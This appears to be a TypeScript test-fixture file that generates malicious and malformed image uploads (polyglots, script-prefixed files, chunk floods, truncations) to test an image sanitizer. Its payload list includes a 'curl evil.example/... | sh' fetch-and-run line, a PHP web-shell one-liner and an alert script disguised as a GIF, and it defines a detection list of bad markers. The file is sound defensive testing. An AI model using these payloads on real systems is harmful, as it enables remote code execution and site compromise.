import { avifFile, box } from './avif'
import { join, little, type Part, repeat, u16, zeros } from './bytes'
import { exifBlock, xmpPacket } from './camera'
import { avifs } from './hostile-avif'
import { accept, type Hostile, HTML, PDF, refuse, SCRIPT, SVG, ZIP } from './hostile-payloads'
import { gifs, jpegs, pngs, webps } from './hostile-raster'
import {
  avif,
  chunk,
  EVERYTHING,
  gif,
  jpeg,
  PNG_SIGNATURE,
  png,
  riff,
  riffChunk,
  segment,
  WEBP_DATA,
  webp,
  webpHeader,
} from './pictures'

/** Text that must not be in any stored image. */
export const BAD_MARKS = ['<script', '<svg', '<html', '%PDF', 'PK\x03\x04', 'GPSMARK', 'HOSTILEMARK']

const otherFiles = () => [
  refuse('nothing at all', ''),
  refuse('a single byte', [0xff]),
  refuse('zeros only', zeros(4096)),
  refuse('an SVG', SVG),
  refuse('an SVG with a byte order mark', '\xef\xbb\xbf', SVG),
  refuse('an SVG with an XML declaration', '<?xml version="1.0"?>', SVG),
  refuse('HTML', HTML),
  refuse('HTML that starts like a GIF', 'GIF89a', HTML),
  refuse('a script that starts like a GIF', `GIF89a/*${'x'.repeat(64)}*/=1;alert(1)//${SCRIPT}`),
  refuse('a script that starts like a JPEG', [0xff, 0xd8, 0xff, 0xe0], `/*${SCRIPT}*/=1`),
  refuse('a script that starts like a PNG', PNG_SIGNATURE, SCRIPT),
  refuse('a script that starts like a WebP', 'RIFF', little(64, 4), 'WEBPVP8 ', SCRIPT.padEnd(60)),
  refuse('a PDF', PDF),
  refuse('a ZIP', ZIP),
  refuse('a BMP', 'BM', little(70, 4), zeros(4), little(54, 4), little(40, 4), little(1, 8), little(24, 4), zeros(30)),
  refuse('a big-endian TIFF', exifBlock(6)),
  refuse('a little-endian TIFF', exifBlock(6, 'II')),
  refuse('an icon', [0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 24, 0], little(40, 4), little(22, 4), zeros(40)),
  refuse('an MP4', box('ftyp', 'isom', zeros(4), 'isomavc1'), box('moov', box('mvhd', SCRIPT)), box('mdat', SCRIPT)),
  refuse('a HEIC image', avifFile({ brands: ['heic', 'heic', 'mif1'] })),
  refuse('a HEIF image of an unknown codec', avifFile({ brands: ['mif1', 'mif1', 'miaf'] })),
  refuse('a WAVE file', 'RIFF', little(36, 4), 'WAVEfmt ', little(16, 4), zeros(16), 'data', zeros(4)),
  refuse('a JPEG XL image', [0, 0, 0, 12], 'JXL \r\n\x87\n', zeros(16)),
]

const referencesTo = (count: number) => box('auxl', u16(1, count), repeat(count, u16(1)))

// Very many tiny parts must not take much time or memory.
const floods = () => [
  accept('a JPEG of 50,000 empty comments', jpeg({ extra: repeat(50_000, segment(0xfe)) })),
  accept('a PNG of 20,000 empty texts', png({ extra: repeat(20_000, chunk('tEXt')) })),
  accept('a GIF of 50,000 empty comments', gif({ extra: repeat(50_000, [0x21, 0xfe, 0]) })),
  accept('a WebP of 50,000 chunks', riff(webpHeader(0), repeat(50_000, riffChunk('abcd')), WEBP_DATA.lossy)),
  refuse('an AVIF of 50,000 empty boxes', avifFile({ boxes: [repeat(50_000, box('free'))] })),
  refuse('an AVIF of 50,000 boxes in meta', avifFile({ tables: [repeat(50_000, box('free'))] })),
  refuse('an AVIF of 50,000 references', avifFile({ references: [referencesTo(1), repeat(9, referencesTo(5_500))] })),
]

const PAYLOADS: [name: string, payload: Part][] = [
  ['HTML', HTML],
  ['an SVG', SVG],
  ['a PDF', PDF],
  ['a ZIP', ZIP],
  ['a Windows executable', join('MZ', zeros(58), little(64, 4), 'PE\0\0HOSTILEMARK')],
  ['a Linux executable', '\x7fELF\x02\x01\x01HOSTILEMARK'],
  ['a shell script', '#!/bin/sh\ncurl evil.example/HOSTILEMARK | sh\n'],
  ['a PHP script', '<?php system($_GET["HOSTILEMARK"]); ?>'],
]

const FORMATS = Object.entries({ JPEG: jpeg, PNG: png, GIF: gif, WebP: webp, AVIF: avif })

/** Each format with each payload appended, which is removed, or prepended, which is refused. */
const polyglots = () =>
  FORMATS.flatMap(([format, make]) =>
    PAYLOADS.flatMap(([name, payload]) => [
      accept(`a ${format} with ${name} after it`, make({ trailing: payload })),
      refuse(`a ${format} with ${name} before it`, payload, make()),
    ]),
  )

const truncated = () =>
  FORMATS.flatMap(([format, make]) =>
    [12, 16, 24, 30, 40].map((length) =>
      refuse(`a ${format} truncated to ${length} bytes`, make(EVERYTHING).subarray(0, length)),
    ),
  )

/** Malicious and malformed uploads, for each kind of attack on the image formats. */
export const hostileFiles = (): Hostile[] => [
  ...otherFiles(),
  ...jpegs(),
  ...pngs(),
  ...gifs(),
  ...webps(),
  ...avifs(),
  ...floods(),
  ...polyglots(),
  ...truncated(),
  accept('an AVIF with a script in XMP', avif({}, { xmp: `${xmpPacket()}${SCRIPT}` })),
]
